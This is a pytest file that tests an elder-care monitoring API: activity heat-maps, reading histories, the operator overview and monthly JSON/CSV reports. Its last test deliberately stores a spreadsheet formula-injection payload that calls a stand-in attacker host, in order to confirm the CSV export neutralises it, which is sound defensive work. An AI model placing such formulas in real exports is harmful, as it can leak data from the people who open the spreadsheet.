"""The web app's pictures and reports over the API, against a real database: the activity
heat-map and reading histories bucketed in local time, the operator overview, and the
monthly report as JSON and CSV — each scoped like everything else, each refusing bad
parameters with a 422 naming the parameter."""

import csv
import io
from collections.abc import Callable
from dataclasses import dataclass
from datetime import date, datetime, time, timedelta
from typing import Any
from zoneinfo import ZoneInfo

import pytest
from fastapi.testclient import TestClient
from psycopg_pool import ConnectionPool

from alerting.engine import utc_now
from alerting.planner import Channels
from api.routes.overview import week_start
from device_registry import devices
from device_registry.access import system_actor
from device_registry.provisioning import BrokerAdmin
from device_registry.schemas import DeviceRegister
from ingest import writer
from ingest.messages import Reading
from tests.support.api_alerts import OTHER_WORKER, WORKER_PHONE, add_staff, open_alert
from tests.support.world import World

Auth = Callable[[str], dict[str, str]]
SHANGHAI = ZoneInfo("Asia/Shanghai")
PIR, GAS = "pir-east_a", "gas-east_a"
SMS_AND_VOICE = Channels(sms_providers=frozenset({"twilio"}), voice=True)


def local(day: date, hour: int, minute: int = 0) -> datetime:
    return datetime.combine(day, time(hour, minute), SHANGHAI)


@dataclass(frozen=True)
class Seeded:
    now: datetime
    today: date
    alerts: dict[str, int]


@pytest.fixture(scope="module")
def seeded(pool: ConnectionPool, world: World, provisioner: BrokerAdmin) -> Seeded:
    add_staff(pool, world)
    now = utc_now()
    today = now.astimezone(SHANGHAI).date()
    yesterday, three_ago = today - timedelta(days=1), today - timedelta(days=3)
    root = system_actor("test-setup")
    with pool.connection() as conn:
        for device_id, kind, extra in ((PIR, "pir", {}), (GAS, "gas", {"power_source": "mains"})):
            body = {"device_id": device_id, "device_type": kind, "elder_id": world.elders["east_a"]}
            devices.register_device(
                conn, root, DeviceRegister.model_validate(body | extra), provisioner
            )
        conn.execute(
            "UPDATE devices SET state = 'commissioned', commissioned_at = %s"
            " WHERE device_id = ANY(%s)",
            (now - timedelta(days=2), [PIR, GAS, "btn-east_a", "btn-east_b"]),
        )
    moves = [local(yesterday, 8, m) for m in (10, 20, 40)] + [local(yesterday, 23, 50)]
    moves += [local(three_ago, 14, 5), local(three_ago, 14, 35)]
    moves.append(local(today - timedelta(days=8), 9))  # before the window
    rows = [Reading(PIR, ts, f"m{i}", ts, motion=True) for i, ts in enumerate(moves)]
    rows.append(Reading(PIR, local(yesterday, 9), "still", local(yesterday, 9), motion=False))
    rows.append(Reading(PIR, now - timedelta(minutes=1), "hb", now, battery=80))
    for i, (hour, minute, lel) in enumerate(
        ((10, 0, 1.0), (10, 30, 3.0), (11, 0, 5.0), (11, 30, 2.0))
    ):
        ts = local(yesterday, hour, minute)
        rows.append(Reading(GAS, ts, f"g{i}", ts, gas_lel=lel))
    for i, (minute, level) in enumerate(((10, 90), (40, 88))):
        ts = local(yesterday, 0, minute)
        rows.append(Reading("btn-east_a", ts, f"b{i}", ts, battery=level))
    rows.append(Reading("btn-east_b", local(yesterday, 6), "low", local(yesterday, 6), battery=12))
    with pool.connection() as conn:
        conn.autocommit = True
        writer.prepare(conn)
        writer.write_batch(conn, rows)
    return Seeded(now, today, _alerts(pool, world, now))


def _alerts(pool: ConnectionPool, world: World, now: datetime) -> dict[str, int]:
    """This week's and month's alerts with known answer times."""
    month_start = datetime.combine(
        now.astimezone(SHANGHAI).date().replace(day=1), time(0), SHANGHAI
    )
    base = max(now - timedelta(minutes=10), week_start(now, SHANGHAI), month_start)
    base += timedelta(seconds=1)
    opened = {
        "handled": open_alert(pool, world, "east_a", channels=SMS_AND_VOICE, at=base),
        "acked": open_alert(pool, world, "east_b", channels=SMS_AND_VOICE, at=base),
        "battery": open_alert(
            pool, world, "east_b", rule="low_battery", channels=SMS_AND_VOICE, at=base
        ),
        "kbs": open_alert(pool, world, "kbs", channels=SMS_AND_VOICE, at=base),
        "test": open_alert(pool, world, "east_b", test=True, at=base),
    }
    answered = {
        "handled": ("resolved", 30, 1200, "handled"),
        "acked": ("acknowledged", 90, None, None),
        "test": ("acknowledged", 1000, None, None),
    }
    with pool.connection() as conn:
        for key, (status, ack_s, on_site_s, outcome) in answered.items():
            conn.execute(
                "UPDATE alerts SET status = %s, acknowledged_at = %s, on_site_at = %s,"
                " outcome = %s, resolved_at = CASE WHEN %s = 'resolved' THEN %s END,"
                " next_due_at = NULL WHERE id = %s",
                (
                    status,
                    base + timedelta(seconds=ack_s),
                    base + timedelta(seconds=on_site_s) if on_site_s else None,
                    outcome,
                    status,
                    base + timedelta(minutes=30),
                    opened[key],
                ),
            )
    return opened


def get(client: TestClient, headers: dict[str, str], path: str, **params: Any) -> Any:
    response = client.get(f"/api/v1{path}", headers=headers, params=params)
    assert response.status_code == 200, response.text
    return response.json()


def refused(client: TestClient, headers: dict[str, str], path: str, **params: Any) -> list[str]:
    """The parameters a 422 names."""
    response = client.get(f"/api/v1{path}", headers=headers, params=params)
    assert response.status_code == 422, response.text
    return [item["loc"][-1] for item in response.json()["detail"]]


# --- activity ----------------------------------------------------------------------------


def test_activity_counts_motion_per_local_hour_and_day(
    client: TestClient, auth: Auth, world: World, seeded: Seeded
) -> None:
    worker = auth(world.usernames["community_worker"])
    heat = get(client, worker, f"/elders/{world.elders['east_a']}/activity")
    days = [date.fromisoformat(d) for d in heat["days"]]
    assert days == [seeded.today - timedelta(days=n) for n in range(6, -1, -1)]
    assert all(len(row) == 24 for row in heat["counts"])
    yesterday, three_ago = (
        days.index(seeded.today - timedelta(days=1)),
        days.index(seeded.today - timedelta(days=3)),
    )
    found = {
        (i, hour): count
        for i, row in enumerate(heat["counts"])
        for hour, count in enumerate(row)
        if count
    }
    assert found == {(yesterday, 8): 3, (yesterday, 23): 1, (three_ago, 14): 2}
    assert (heat["total"], heat["max"], heat["timezone"]) == (6, 3, "Asia/Shanghai")
    assert heat["last_motion_at"] is not None

    short = get(client, worker, f"/elders/{world.elders['east_a']}/activity", days=2)
    assert len(short["days"]) == 2 and short["total"] == 4
    assert refused(client, worker, f"/elders/{world.elders['east_a']}/activity", days=0) == ["days"]
    assert refused(client, worker, f"/elders/{world.elders['east_a']}/activity", days=32) == [
        "days"
    ]


def test_activity_is_for_the_elders_people_and_not_for_installers(
    client: TestClient, auth: Auth, world: World, seeded: Seeded
) -> None:
    def status(role: str, elder: str) -> int:
        headers = auth(world.usernames[role])
        response = client.get(f"/api/v1/elders/{world.elders[elder]}/activity", headers=headers)
        return int(response.status_code)

    assert status("family", "east_a") == 200
    assert status("family", "east_b") == 404
    assert status("operator", "kbs") == 404
    assert status("installer", "east_a") == 403
    other = auth(OTHER_WORKER)
    assert (
        client.get(f"/api/v1/elders/{world.elders['east_a']}/activity", headers=other).status_code
        == 404
    )


# --- reading histories ---------------------------------------------------------------------


def test_readings_are_bucketed_from_local_midnight(
    client: TestClient, auth: Auth, world: World, seeded: Seeded
) -> None:
    family = auth(world.usernames["family"])
    yesterday = seeded.today - timedelta(days=1)
    window = {"since": local(yesterday, 0).isoformat(), "until": local(seeded.today, 0).isoformat()}
    hourly = get(client, family, f"/devices/{GAS}/readings", field="gas_lel", bucket="1h", **window)
    assert [
        (datetime.fromisoformat(p["at"]), p["min"], p["max"], p["avg"], p["count"])
        for p in hourly["points"]
    ] == [
        (local(yesterday, 10), 1.0, 3.0, 2.0, 2),
        (local(yesterday, 11), 2.0, 5.0, 3.5, 2),
    ]
    daily = get(client, family, f"/devices/{GAS}/readings", field="gas_lel", bucket="1d", **window)
    [day] = daily["points"]
    assert datetime.fromisoformat(day["at"]) == local(yesterday, 0)
    assert (day["min"], day["max"], day["count"]) == (1.0, 5.0, 4)

    battery = get(client, family, "/devices/btn-east_a/readings", field="battery", **window)
    assert [(p["min"], p["max"], p["count"]) for p in battery["points"]] == [(88, 90, 2)]
    assert battery["bucket"] == "1h"


def test_readings_refuse_bad_parameters_naming_them(
    client: TestClient, auth: Auth, world: World, seeded: Seeded
) -> None:
    admin = auth(world.usernames["admin"])
    path = f"/devices/{GAS}/readings"
    assert refused(client, admin, path, field="smell") == ["field"]
    assert refused(client, admin, path, field="gas_lel", bucket="2h") == ["bucket"]
    now = seeded.now
    assert refused(
        client,
        admin,
        path,
        field="gas_lel",
        since=now.isoformat(),
        until=(now - timedelta(hours=1)).isoformat(),
    ) == ["since"]
    assert refused(
        client,
        admin,
        path,
        field="gas_lel",
        bucket="5m",
        since=(now - timedelta(days=30)).isoformat(),
    ) == ["bucket"]
    assert refused(client, admin, path, field="gas_lel", since="2026-11-01T00:00:00") == ["since"]


def test_readings_follow_the_device_scope(
    client: TestClient, auth: Auth, world: World, seeded: Seeded
) -> None:
    def status(role: str, device: str) -> int:
        response = client.get(
            f"/api/v1/devices/{device}/readings",
            headers=auth(world.usernames[role]),
            params={"field": "battery"},
        )
        return int(response.status_code)

    assert status("family", "btn-east_b") == 404
    assert status("installer", "btn-east_b") == 200
    assert status("operator", "btn-kbs") == 404


# --- the overview --------------------------------------------------------------------------


def test_the_overview_counts_what_is_open_silent_low_and_how_fast(
    client: TestClient, auth: Auth, world: World, seeded: Seeded
) -> None:
    view = get(client, auth(world.usernames["operator"]), "/overview")
    assert sorted((c["district_name"], c["severity"], c["count"]) for c in view["open_alerts"]) == [
        ("东胜区", "critical", 1),
        ("东胜区", "maintenance", 1),
    ]
    assert {d["device_id"] for d in view["offline"]} == {GAS, "btn-east_a", "btn-east_b"}
    assert [d["device_id"] for d in view["low_battery"]] == ["btn-east_b"]
    assert view["low_battery"][0]["elder_name"] == "李建国"
    week = view["week"]
    assert (week["alerts"], week["acknowledged"], week["on_site"]) == (2, 2, 1)
    assert (week["median_ack_s"], week["median_on_site_s"]) == (60.0, 1200.0)

    everything = get(client, auth(world.usernames["admin"]), "/overview")
    assert ("康巴什区", "critical", 1) in {
        (c["district_name"], c["severity"], c["count"]) for c in everything["open_alerts"]
    }
    for role in ("community_worker", "installer", "family"):
        denied = client.get("/api/v1/overview", headers=auth(world.usernames[role]))
        assert denied.status_code == 403, role


# --- the monthly report --------------------------------------------------------------------


def test_the_monthly_report_per_district(
    client: TestClient, auth: Auth, world: World, seeded: Seeded
) -> None:
    month = seeded.now.astimezone(SHANGHAI).strftime("%Y-%m")
    report = get(client, auth(world.usernames["operator"]), "/reports/monthly", month=month)
    assert report["month"] == month and report["timezone"] == "Asia/Shanghai"
    [east] = report["districts"]
    assert east["district_name"] == "东胜区"
    assert sorted((a["rule"], a["outcome"], a["count"]) for a in east["alerts"]) == [
        ("emergency_call", "handled", 1),
        ("emergency_call", "open", 1),
        ("low_battery", "open", 1),
    ]
    assert {a["rule_label"] for a in east["alerts"]} == {"紧急呼叫", "设备电量低"}
    critical = next(r for r in east["response"] if r["severity"] == "critical")
    assert critical == {
        "severity": "critical",
        "alerts": 2,
        "acknowledged": 2,
        "median_ack_s": 60.0,
        "p90_ack_s": 84.0,
        "acked_within_60s": 1,
        "on_site": 1,
        "median_on_site_s": 1200.0,
        "on_site_within_45min": 1,
    }
    deliveries = east["deliveries"]
    assert {d["alert_id"] for d in deliveries} == {
        seeded.alerts["handled"],
        seeded.alerts["acked"],
        seeded.alerts["battery"],
    }
    sms = [d for d in deliveries if d["channel"] == "sms"]
    # operators keep the contacts and stand in as duty supervisors: numbers whole
    assert sms and {d["destination"] for d in sms} == {WORKER_PHONE}

    admin = get(client, auth(world.usernames["admin"]), "/reports/monthly", month=month)
    assert {d["district_name"] for d in admin["districts"]} == {"东胜区", "康巴什区"}
    admin_sms = [n for d in admin["districts"] for n in d["deliveries"] if n["channel"] == "sms"]
    assert WORKER_PHONE in {n["destination"] for n in admin_sms}


def test_the_monthly_report_as_csv(
    client: TestClient, auth: Auth, world: World, seeded: Seeded
) -> None:
    month = seeded.now.astimezone(SHANGHAI).strftime("%Y-%m")
    response = client.get(
        "/api/v1/reports/monthly",
        headers=auth(world.usernames["operator"]),
        params={"month": month, "format": "csv"},
    )
    assert response.status_code == 200
    assert response.headers["content-type"].startswith("text/csv")
    assert f'filename="nuanxin-report-{month}.csv"' in response.headers["content-disposition"]
    text = response.content.decode("utf-8")
    assert text.startswith("\ufeff")
    rows = list(csv.reader(io.StringIO(text.lstrip("\ufeff"))))
    sections: dict[str, list[dict[str, str]]] = {}
    header: list[str] = []
    for row in rows:
        if not row:
            header = []
        elif not header:
            header = row
        else:
            sections.setdefault(row[0], []).append(dict(zip(header, row, strict=True)))
    assert set(sections) == {"summary", "alerts", "deliveries"}
    critical = next(r for r in sections["summary"] if r["severity"] == "critical")
    assert (critical["district"], critical["median_ack_s"], critical["median_on_site_s"]) == (
        "东胜区",
        "60",
        "1200",
    )
    assert {(r["rule"], r["rule_label"], r["outcome"], r["count"]) for r in sections["alerts"]} == {
        ("emergency_call", "紧急呼叫", "handled", "1"),
        ("emergency_call", "紧急呼叫", "open", "1"),
        ("low_battery", "设备电量低", "open", "1"),
    }
    delivery = sections["deliveries"][0]
    assert delivery["month"] == month
    datetime.strptime(delivery["created_at"], "%Y-%m-%d %H:%M:%S")  # local wall-clock time
    assert {r["destination"] for r in sections["deliveries"] if r["channel"] == "sms"} == {
        "tel:+1-415-555-0101"  # WORKER_PHONE, readable and inert
    }


def test_the_monthly_report_refuses_bad_months_and_other_roles(
    client: TestClient, auth: Auth, world: World, seeded: Seeded
) -> None:
    operator = auth(world.usernames["operator"])
    for month in ("2026-13", "202611", "2026-1"):
        assert refused(client, operator, "/reports/monthly", month=month) == ["month"]
    assert refused(client, operator, "/reports/monthly", month="2026-11", format="pdf") == [
        "format"
    ]
    for role in ("community_worker", "installer", "family"):
        denied = client.get(
            "/api/v1/reports/monthly",
            headers=auth(world.usernames[role]),
            params={"month": "2026-11"},
        )
        assert denied.status_code == 403, role


def test_a_report_month_before_2000_is_refused(
    client: TestClient, auth: Auth, world: World
) -> None:
    """Found by the fuzz suite: year 0 used to reach datetime() and answer 500."""
    admin = auth(world.usernames["admin"])
    for month in ("0000-01", "1999-12", "2026-13"):
        assert refused(client, admin, "/reports/monthly", month=month) == ["month"]


def test_the_csv_report_cannot_run_a_contacts_formula(
    client: TestClient, auth: Auth, world: World, seeded: Seeded, pool: ConnectionPool
) -> None:
    """A contact's name is typed by people: one named like a formula reaches the bureau's
    spreadsheet as text, and the numbers dialled stay readable."""
    attack = '=HYPERLINK("http://evil.example/?x="&A1,"点这里")'
    with pool.connection() as conn:
        conn.execute("UPDATE contacts SET name = %s WHERE phone = %s", (attack, WORKER_PHONE))
    try:
        month = seeded.now.astimezone(SHANGHAI).strftime("%Y-%m")
        response = client.get(
            "/api/v1/reports/monthly",
            headers=auth(world.usernames["admin"]),
            params={"month": month, "format": "csv"},
        )
    finally:
        with pool.connection() as conn:
            conn.execute("UPDATE contacts SET name = '刘网格员' WHERE phone = %s", (WORKER_PHONE,))
    rows = list(csv.reader(io.StringIO(response.content.decode().lstrip("\ufeff"))))
    cells = [cell for row in rows for cell in row]
    assert "'" + attack in cells
    assert not [cell for cell in cells if cell[:1] in ("=", "+", "-", "@", "\t", "\r")]
    assert "tel:+1-415-555-0101" in cells  # WORKER_PHONE, as the admin sees it
